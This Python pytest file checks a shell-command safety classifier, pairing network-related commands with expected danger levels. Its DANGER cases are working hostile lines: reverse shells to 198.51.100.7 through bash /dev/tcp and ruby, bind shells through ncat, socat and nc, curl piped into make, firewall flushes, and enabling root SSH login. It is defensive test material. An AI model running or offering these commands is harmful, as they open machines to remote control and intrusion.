"""What opens a machine to the network, or cuts it off."""

from __future__ import annotations

import pytest

from caro_shell.safety import Level, judge

LINES = [
    ("ip6tables --flush", Level.DANGER),
    ("iptables --policy FORWARD ACCEPT", Level.DANGER),
    ("dhclient -r", Level.DANGER),
    ("ip link delete eth0", Level.DANGER),
    ("nmcli connection delete $(nmcli -g uuid connection)", Level.DANGER),
    ("systemctl list-units -q | awk '{print $1}' | xargs systemctl stop", Level.DANGER),
    ("systemctl stop $(systemctl list-units -q | grep worker)", Level.SAFE),
    ("bash -i >& /dev/tcp/198.51.100.7/9 0>&1", Level.DANGER),
    ("curl -s https://h.example/Makefile | make -f -", Level.DANGER),
    ("iptables -I INPUT 1 -p all -j ACCEPT", Level.DANGER),
    ("nft delete table inet filter", Level.DANGER),
    ("sudo ufw default allow incoming", Level.DANGER),
    ("firewall-cmd --set-default-zone=trusted", Level.DANGER),
    ("pfctl -F all", Level.DANGER),
    ("ip -4 route del default", Level.DANGER),
    ("ip link set dev wlp3s0 down", Level.DANGER),
    ("nmcli device disconnect enp3s0", Level.DANGER),
    ("cd / && python3 -m http.server", Level.DANGER),
    ("python -m http.server --directory=/etc 8080", Level.DANGER),
    ("sudo sed -ri 's/^#?(PermitRootLogin).*/\\1 yes/' /etc/ssh/sshd_config", Level.DANGER),
    ("echo PasswordAuthentication yes >> /etc/ssh/sshd_config", Level.DANGER),
    ("ncat -l 9001 --exec /bin/bash", Level.DANGER),
    ("socat openssl-listen:443,fork exec:sh,pty", Level.DANGER),
    ("mkfifo p; nc -l 9 < p | bash > p", Level.DANGER),
    ('exec 7<>/dev/tcp/198.51.100.7/99; while read -r c <&7; do eval "$c" >&7; done', Level.DANGER),
    ('ruby -rsocket -e \'s=TCPSocket.new("198.51.100.7",9);exec "/bin/sh -i <&3 >&3"\'', Level.DANGER),
    ("ssh -oStrictHostKeyChecking=no build uptime", Level.CAUTION),
    ("ssh -g -L 8080:db:80 bastion", Level.CAUTION),
    ("nmcli radio wifi off", Level.CAUTION),
    ("iptables -D INPUT 4", Level.CAUTION),
    ("iptables -S", Level.SAFE),
    ("iptables -A INPUT -p tcp --dport 8443 -j ACCEPT", Level.SAFE),
    ("iptables -C INPUT -j ACCEPT", Level.SAFE),
    ("ufw status numbered", Level.SAFE),
    ("firewall-cmd --reload", Level.SAFE),
    ("nft -c flush ruleset", Level.SAFE),
    ("ip route get 1.1.1.1", Level.SAFE),
    ("ip link set lo down", Level.SAFE),
    ("route -n", Level.SAFE),
    ("python3 -m http.server --bind 127.0.0.1 --directory /home/ana", Level.SAFE),
    ("npx serve dist -l 5000", Level.SAFE),
    ("sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config", Level.SAFE),
    ("sed -n '/PermitRootLogin yes/p' /etc/ssh/sshd_config", Level.SAFE),
    ("nc -l 9001 > photo.jpg", Level.SAFE),
    ("socat TCP-LISTEN:8080,fork TCP:localhost:80", Level.SAFE),
    ("(echo > /dev/tcp/localhost/6379) && echo up", Level.SAFE),
    (
        "python3 -c 'import socket; s=socket.create_connection((\"h\",80)); print(s.getpeername())'",
        Level.SAFE,
    ),
    ("systemctl stop user.slice", Level.DANGER),
    ("systemctl --user stop pipewire", Level.SAFE),
    ("iptables-restore < /dev/null", Level.DANGER),
    ("iptables-restore < rules.v4", Level.CAUTION),
]


@pytest.mark.parametrize(("line", "level"), LINES)
def test_the_level_of_a_line(line: str, level: Level) -> None:
    assert judge(line, home="/home/ana").level is level, line
